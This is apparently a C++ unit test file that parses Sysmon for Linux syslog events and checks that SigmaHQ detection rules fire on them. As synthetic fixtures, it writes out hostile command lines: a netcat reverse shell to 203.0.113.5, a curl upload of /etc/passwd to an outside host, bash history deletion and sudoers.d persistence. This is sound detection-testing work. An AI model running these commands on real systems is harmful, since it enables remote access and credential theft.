// Sysmon for Linux (issue 5, R18/R19): its syslog messages (program "sysmon", one XML <Event>
// each, as SysmonForLinux writes them) normalised, and SigmaHQ's `product: linux` category rules
// (process_creation, network_connection, file_event) firing on them. The events follow
// SysmonForLinux's event schema (the EventData items of events 1, 3 and 11), not any rule.
#include <gtest/gtest.h>

#include <filesystem>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "soc/detect.h"
#include "soc/parse.h"
#include "soc/parse_testing.h"
#include "soc/sigma.h"

namespace seccloud::soc {
namespace {

using parse_testing::ParseAs;
using parse_testing::Str;

using Items = std::vector<std::pair<std::string, std::string>>;

// A syslog line as sysmon sends it: the System element SysmonForLinux fills, then the items
// (values already XML-escaped).
std::string SysmonLine(int event_id, const Items& items, const std::string& time = "03:50:05") {
  std::string xml =
      "<Event><System><Provider Name=\"Linux-Sysmon\" "
      "Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>" +
      std::to_string(event_id) +
      "</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
      "<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"2025-11-26T" +
      time +
      ".123456000Z\"/><EventRecordID>4711</EventRecordID><Correlation/><Execution "
      "ProcessID=\"1012\" ThreadID=\"1012\"/><Channel>Linux-Sysmon/Operational</Channel>"
      "<Computer>web01</Computer><Security UserId=\"0\"/></System><EventData>";
  for (const auto& [name, value] : items) {
    xml += "<Data Name=\"" + name + "\">" + value + "</Data>";
  }
  xml += "</EventData></Event>";
  return "<14>Nov 26 03:50:05 web01 sysmon: " + xml;
}

Items ProcessCreate(const std::string& image, const std::string& command_line,
                    const std::string& parent_image = "/usr/bin/bash") {
  return {{"RuleName", "-"},
          {"UtcTime", "2025-11-26 03:50:05.123"},
          {"ProcessGuid", "{4f1a5b3c-9f2d-6745-a8c1-7e1f2d000000}"},
          {"ProcessId", "24817"},
          {"Image", image},
          {"FileVersion", "-"},
          {"Description", "-"},
          {"Product", "-"},
          {"Company", "-"},
          {"OriginalFileName", "-"},
          {"CommandLine", command_line},
          {"CurrentDirectory", "/home/alice"},
          {"User", "alice"},
          {"LogonGuid", "{4f1a5b3c-0000-0000-e803-000000000000}"},
          {"LogonId", "1000"},
          {"TerminalSessionId", "3"},
          {"IntegrityLevel", "no level"},
          {"Hashes", "-"},
          {"ParentProcessGuid", "{4f1a5b3c-9e11-6745-2853-b7a3be550000}"},
          {"ParentProcessId", "24790"},
          {"ParentImage", parent_image},
          {"ParentCommandLine", "-bash"},
          {"ParentUser", "alice"}};
}

Record Syslog(const std::string& line) { return ParseAs(Format::kSyslog, line, "udp:514"); }

TEST(ParseSysmonTest, ProcessCreateItemsAndEcs) {
  const Record r = Syslog(SysmonLine(
      1, ProcessCreate("/usr/bin/curl",
                       "curl -F &quot;f=@/etc/passwd&quot; &lt;x&gt; &amp; &apos;&#65;&#x3042;")));
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "event.dataset"), "linux.sysmon");
  EXPECT_EQ(Str(r, "@timestamp"), "2025-11-26T03:50:05.123Z");
  EXPECT_EQ(Str(r, "winlog.event_id"), "1");
  EXPECT_EQ(Str(r, "event.code"), "1");
  EXPECT_EQ(Str(r, "winlog.channel"), "Linux-Sysmon/Operational");
  EXPECT_EQ(Str(r, "winlog.provider_name"), "Linux-Sysmon");
  EXPECT_EQ(Str(r, "winlog.computer_name"), "web01");
  EXPECT_EQ(Str(r, "winlog.event_data.Image"), "/usr/bin/curl");
  EXPECT_EQ(Str(r, "winlog.event_data.CommandLine"),
            "curl -F \"f=@/etc/passwd\" <x> & 'A\xE3\x81\x82");
  EXPECT_EQ(Str(r, "winlog.event_data.LogonId"), "1000");
  EXPECT_EQ(Str(r, "process.executable"), "/usr/bin/curl");
  EXPECT_EQ(Str(r, "process.name"), "curl");
  EXPECT_EQ(Str(r, "process.pid"), "24817");
  EXPECT_EQ(Str(r, "process.parent.pid"), "24790");
  EXPECT_EQ(Str(r, "process.parent.executable"), "/usr/bin/bash");
  EXPECT_EQ(Str(r, "process.working_directory"), "/home/alice");
  EXPECT_EQ(Str(r, "user.name"), "alice");
  EXPECT_EQ(Str(r, "host.hostname"), "web01");
  EXPECT_EQ(Str(r, "log.syslog.appname"), "sysmon");
}

TEST(ParseSysmonTest, NetworkConnectItems) {
  const Record r = Syslog(SysmonLine(3, {{"RuleName", "-"},
                                         {"UtcTime", "2025-11-26 03:50:05.200"},
                                         {"ProcessId", "2230"},
                                         {"Image", "/usr/bin/ssh"},
                                         {"User", "alice"},
                                         {"Protocol", "tcp"},
                                         {"Initiated", "true"},
                                         {"SourceIsIpv6", "false"},
                                         {"SourceIp", "192.0.2.10"},
                                         {"SourcePort", "50212"},
                                         {"DestinationIsIpv6", "false"},
                                         {"DestinationIp", "203.0.113.7"},
                                         {"DestinationPort", "22"}}));
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "destination.ip"), "203.0.113.7");
  EXPECT_EQ(Str(r, "destination.port"), "22");
  EXPECT_EQ(Str(r, "source.port"), "50212");
  EXPECT_EQ(Str(r, "network.transport"), "tcp");
}

TEST(ParseSysmonTest, MalformedXmlStaysTheSyslogRecordWithANote) {
  const std::string head = "<14>Nov 26 03:50:05 web01 sysmon: ";
  const std::string good = SysmonLine(1, ProcessCreate("/usr/bin/id", "id"));
  const std::string xml = good.substr(head.size());
  const std::vector<std::string> bad = {
      xml.substr(0, xml.size() - 3),                                  // cut
      "<Event><!-- c --></Event>",                                    // a comment
      "<Event><![CDATA[x]]></Event>",                                 // CDATA
      "<Event><System><EventID>1</EventID></System>&bogus;</Event>",  // unknown entity
      "<Event><System><EventID>1</EventID></System>&#0;</Event>",     // no character
      "<Event><System><EventID>1</EventID></System></Evnt>",          // wrong end tag
      "<Event><System><EventID>x</EventID></System></Event>",         // no event id
      "<Event><a><b><c><d>deep</d></c></b></a></Event>",              // too deep
      "<Event></Event> trailing",
      "<Event a=\"1\" a=\"2\" a=\"3\" a=\"4\" a=\"5\" a=\"6\" a=\"7\" a=\"8\" a=\"9\"/>",
  };
  for (const std::string& x : bad) {
    SCOPED_TRACE(x);
    const Record r = Syslog(head + x);
    ASSERT_TRUE(r.parsed);
    EXPECT_EQ(Str(r, "event.dataset"), "system.syslog");
    EXPECT_EQ(Str(r, "message"), x);
    EXPECT_NE(Str(r, "seccloud.soc.parse_note"), "<absent>");
    EXPECT_EQ(Str(r, "winlog.event_id"), "<absent>");
  }
  // More elements than kept: refused as a whole, never cut.
  std::string many = "<Event><System><EventID>1</EventID></System><EventData>";
  for (int i = 0; i < 300; ++i) many += "<Data Name=\"D" + std::to_string(i) + "\">v</Data>";
  many += "</EventData></Event>";
  EXPECT_EQ(Str(Syslog(head + many), "event.dataset"), "system.syslog");
  // sysmon's own status lines are no event: plain syslog, no note.
  const Record status = Syslog(head + "Sysmon v1.3.0 - System activity monitor");
  EXPECT_EQ(Str(status, "event.dataset"), "system.syslog");
  EXPECT_EQ(Str(status, "seccloud.soc.parse_note"), "<absent>");
  // Another program's XML is not read as Sysmon's.
  EXPECT_EQ(Str(Syslog("<14>Nov 26 03:50:05 web01 myapp: " + xml), "winlog.event_id"), "<absent>");
}

TEST(ParseSysmonTest, ItemsAreOnlyEventDataDataElements) {
  // A <Data> outside <EventData>, or another element inside it, is no item.
  std::string line = SysmonLine(1, ProcessCreate("/usr/bin/id", "id"));
  const size_t system_end = line.find("</System>");
  ASSERT_NE(system_end, std::string::npos);
  line.insert(system_end, "<Data Name=\"Injected\">x</Data>");
  const size_t data_end = line.find("</EventData>");
  ASSERT_NE(data_end, std::string::npos);
  line.insert(data_end, "<Item Name=\"Other\">y</Item>");
  const Record r = Syslog(line);
  ASSERT_EQ(Str(r, "event.dataset"), "linux.sysmon");
  EXPECT_EQ(Str(r, "winlog.event_data.Image"), "/usr/bin/id");
  EXPECT_EQ(Str(r, "winlog.event_data.Injected"), "<absent>");
  EXPECT_EQ(Str(r, "winlog.event_data.Other"), "<absent>");
}

TEST(ParseSysmonTest, DottedOrColonItemNamesAreSkipped) {
  // A name that would nest a path under winlog.event_data ("a.b") or is no segment ("a:b").
  Items items = ProcessCreate("/usr/bin/id", "id");
  items.push_back({"a.b", "dotted"});
  items.push_back({"c:d", "colon"});
  const Record r = Syslog(SysmonLine(1, items));
  ASSERT_EQ(Str(r, "event.dataset"), "linux.sysmon");
  EXPECT_EQ(Str(r, "winlog.event_data.Image"), "/usr/bin/id");
  EXPECT_EQ(Str(r, "winlog.event_data.a"), "<absent>");
  EXPECT_EQ(Str(r, "winlog.event_data.a.b"), "<absent>");
  EXPECT_EQ(Str(r, "winlog.event_data.c:d"), "<absent>");
}

// ---- SigmaHQ's linux category rules on these events ----

const std::filesystem::path kLinuxRules =
    std::filesystem::path(SECCLOUD_SOURCE_DIR "/../shared/data/sigma/rules/linux");

TEST(ParseSysmonTest, SigmaHqLinuxCategoryRulesFireOnTheirEvents) {
  if (!std::filesystem::is_directory(kLinuxRules)) {
    GTEST_SKIP() << kLinuxRules << " is absent (SigmaHQ rules are test data, not in the repo)";
  }
  LoadReport report;
  auto set = LoadRules({kLinuxRules / "process_creation", kLinuxRules / "network_connection",
                        kLinuxRules / "file_event"},
                       &report);
  ASSERT_TRUE(set.has_value());
  for (const auto& i : report.unsupported) ADD_FAILURE() << "not loaded: " << i.ToString();
  auto engine = DetectionEngine::Create(std::move(*set));
  ASSERT_TRUE(engine.has_value());
  auto fired = [&](const Record& r) {
    std::vector<Detection> out;
    (*engine)->Process(r, &out);
    std::set<std::string> ids;
    for (const auto& d : out) ids.insert(d.rule_id);
    return ids;
  };

  const std::pair<const char*, std::string> cases[] = {
      {"e2072cab-8c9a-459b-b63c-40ae79e27031",  // Decode Base64 Encoded Text
       SysmonLine(1, ProcessCreate("/usr/bin/base64", "base64 -d /tmp/.x.b64"))},
      {"c2e234de-03a3-41e1-b39a-1e56dc17ba67",  // Remove Scheduled Cron Task/Job
       SysmonLine(1, ProcessCreate("/usr/bin/crontab", "crontab -r -u www-data"))},
      {"1182f3b3-e716-4efa-99ab-d2685d04360f",  // History File Deletion
       SysmonLine(1, ProcessCreate("/usr/bin/rm", "rm -f /home/alice/.bash_history"))},
      {"7f734ed0-4f47-46c0-837f-6ee62505abd9",  // Potential Netcat Reverse Shell
       SysmonLine(1, ProcessCreate("/usr/bin/nc", "nc -e /bin/sh 203.0.113.5 4444"))},
      {"00b90cc1-17ec-402c-96ad-3a8117d7a582",  // Suspicious Curl File Upload
       SysmonLine(1, ProcessCreate("/usr/bin/curl",
                                   "curl -F &quot;f=@/etc/passwd&quot; https://203.0.113.9/u"))},
      {"dbfc7c98-04ab-4ab7-aa94-c74d22aa7376",  // Potentially Suspicious Malware Callback
                                                // Communication
       SysmonLine(3, {{"RuleName", "-"},
                      {"UtcTime", "2025-11-26 03:50:05.200"},
                      {"ProcessGuid", "{4f1a5b3c-9f2d-6745-a8c1-7e1f2d000000}"},
                      {"ProcessId", "24817"},
                      {"Image", "/usr/bin/python3.11"},
                      {"User", "www-data"},
                      {"Protocol", "tcp"},
                      {"Initiated", "true"},
                      {"SourceIsIpv6", "false"},
                      {"SourceIp", "192.0.2.10"},
                      {"SourceHostname", "-"},
                      {"SourcePort", "50212"},
                      {"SourcePortName", "-"},
                      {"DestinationIsIpv6", "false"},
                      {"DestinationIp", "203.0.113.5"},
                      {"DestinationHostname", "-"},
                      {"DestinationPort", "4444"},
                      {"DestinationPortName", "-"}})},
      {"ddb26b76-4447-4807-871f-1b035b2bfa5d",  // Persistence Via Sudoers.d Files
       SysmonLine(11, {{"RuleName", "-"},
                       {"UtcTime", "2025-11-26 03:50:05.300"},
                       {"ProcessGuid", "{4f1a5b3c-9f2d-6745-a8c1-7e1f2d000000}"},
                       {"ProcessId", "24830"},
                       {"Image", "/usr/bin/tee"},
                       {"TargetFilename", "/etc/sudoers.d/90-www"},
                       {"CreationUtcTime", "2025-11-26 03:50:05.300"},
                       {"User", "root"}})},
  };
  for (const auto& [id, line] : cases) {
    SCOPED_TRACE(line);
    const Record r = Syslog(line);
    ASSERT_EQ(Str(r, "event.dataset"), "linux.sysmon");
    EXPECT_EQ(fired(r).count(id), 1u) << id;
  }
  // Everyday processes fire none of them.
  for (const auto& benign :
       {SysmonLine(1, ProcessCreate("/usr/bin/ls", "ls -la /home/alice")),
        SysmonLine(1,
                   ProcessCreate("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf")),
        SysmonLine(1, ProcessCreate("/usr/bin/base64", "base64 /etc/hostname"))}) {
    SCOPED_TRACE(benign);
    EXPECT_TRUE(fired(Syslog(benign)).empty());
  }
}

}  // namespace
}  // namespace seccloud::soc
